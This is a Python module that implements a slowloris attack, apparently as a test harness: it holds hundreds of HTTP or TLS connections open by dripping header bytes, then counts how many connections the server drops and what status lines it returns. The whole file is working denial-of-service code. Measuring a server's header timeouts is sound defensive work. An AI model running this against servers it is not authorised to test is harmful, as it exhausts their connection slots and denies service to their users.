"""A slow-header attack ("slowloris"): many connections that each send a request's headers a byte at a time, forever."""

import asyncio
import collections
import resource
import threading

# File descriptors this process needs besides the attack's own sockets (the
# test runner, its logs, the connections of the clients measured meanwhile).
_SPARE_DESCRIPTORS = 256

# Connects in flight at once: all at once would overflow a small listen
# backlog, and the kernel's one-second SYN retries would blur the timings.
_CONCURRENT_CONNECTS = 100


def ensure_file_limit(descriptors):
    """Raise this process's soft RLIMIT_NOFILE to the hard limit if it is below `descriptors`.

    The usual soft limit of 1024 ends a 1000-connection attack with "Too many
    open files" in the attacker, which would read as the server's doing.
    Raising the soft limit up to the hard one needs no privilege.
    """
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < descriptors:
        if hard != resource.RLIM_INFINITY and hard < descriptors:
            raise OSError(f"RLIMIT_NOFILE hard limit {hard} is below the {descriptors} descriptors needed")
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


class SlowClients:
    """`connections` clients that start a request and never finish its headers.

    Each connection sends "GET / HTTP/1.1", a Host header and the start of one
    more header line, then one more byte of that line every `interval`
    seconds, so it is never idle and never complete: only a limit on the time
    a whole header may take frees the server's slot. A connection the server
    closes is not reopened, so the counts show how many the server let go.
    `tls`, a client-side ssl.SSLContext, wraps each connection, asking for
    `server_name` (by default `address`) in the handshake and the Host header.

    One background thread runs an asyncio loop for all connections. Entering
    waits until every connection was tried (at most `connect_timeout` seconds
    each). Counts, readable at any time:
    - `opened`: connections established; `failed`: those that never were
      (`errors` keeps a few reasons);
    - `open_now`: established and not closed by the server (yet);
    - `closed_by_server`: closed or reset by the server;
    - `status_lines`: a Counter of the first line of what the server answered
      (an "HTTP/1.1 408 ..." before closing, say);
    - `open_at_exit`: `open_now` just before leaving the with-block closed them all.
    """

    def __init__(self, address, port, connections=500, interval=2.0, tls=None, server_name=None,
                 connect_timeout=10):
        self.address, self.port, self.connections, self.interval = address, port, connections, interval
        self.tls, self.server_name, self.connect_timeout = tls, server_name or address, connect_timeout
        self.request_start = f"GET / HTTP/1.1\r\nHost: {self.server_name}\r\nX-Slow: ".encode()
        self.opened = self.failed = self.closed_by_server = 0
        self.open_at_exit = None
        self.errors = []
        self.status_lines = collections.Counter()
        self._tried = 0
        self._all_tried = threading.Event()
        self._loop = self._thread = None

    @property
    def open_now(self):
        return self.opened - self.closed_by_server

    def __enter__(self):
        ensure_file_limit(self.connections + _SPARE_DESCRIPTORS)
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, name="slow-clients", daemon=True)
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._hold_all(), self._loop)
        self._all_tried.wait(timeout=self.connect_timeout * (1 + self.connections // _CONCURRENT_CONNECTS))
        return self

    def __exit__(self, *exc):
        self.open_at_exit = self.open_now
        asyncio.run_coroutine_threadsafe(self._close_all(), self._loop).result(timeout=2)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=2)
        self._loop.close()
        return False

    async def _close_all(self):
        # Cancelling aborts every connection at once (a reset, not a polite
        # TLS or TCP close), so leaving takes milliseconds however many are open.
        others = [task for task in asyncio.all_tasks() if task is not asyncio.current_task()]
        for task in others:
            task.cancel()
        await asyncio.gather(*others, return_exceptions=True)

    async def _hold_all(self):
        connect_slots = asyncio.Semaphore(_CONCURRENT_CONNECTS)
        await asyncio.gather(*(self._hold(connect_slots) for _ in range(self.connections)))

    async def _open(self, connect_slots):
        try:
            async with connect_slots:
                streams = await asyncio.wait_for(
                    asyncio.open_connection(self.address, self.port, ssl=self.tls,
                                            server_hostname=self.server_name if self.tls else None),
                    self.connect_timeout)
            self.opened += 1
            return streams
        except OSError as error:  # refused, timed out, or a TLS handshake that failed (ssl.SSLError)
            self.failed += 1
            if len(self.errors) < 10:
                self.errors.append(repr(error))
            return None
        finally:
            self._tried += 1
            if self._tried == self.connections:
                self._all_tried.set()

    async def _hold(self, connect_slots):
        streams = await self._open(connect_slots)
        if streams is None:
            return
        reader, writer = streams
        try:
            await self._drip_until_the_server_closes(reader, writer)
        except OSError:
            pass  # a reset or a broken pipe: the server closing under a read or a write
        finally:
            writer.transport.abort()
        self.closed_by_server += 1

    async def _drip_until_the_server_closes(self, reader, writer):
        writer.write(self.request_start)
        # The server ends this: with an answer and then closing, or by closing at once (an empty line).
        answer = asyncio.ensure_future(reader.readline())
        try:
            while not (await asyncio.wait({answer}, timeout=self.interval))[0]:
                writer.write(b"a")
                await writer.drain()
        finally:
            answer.cancel()
        status_line = answer.result()
        if status_line:
            self.status_lines[status_line.decode("latin-1").strip()] += 1
            await reader.read()
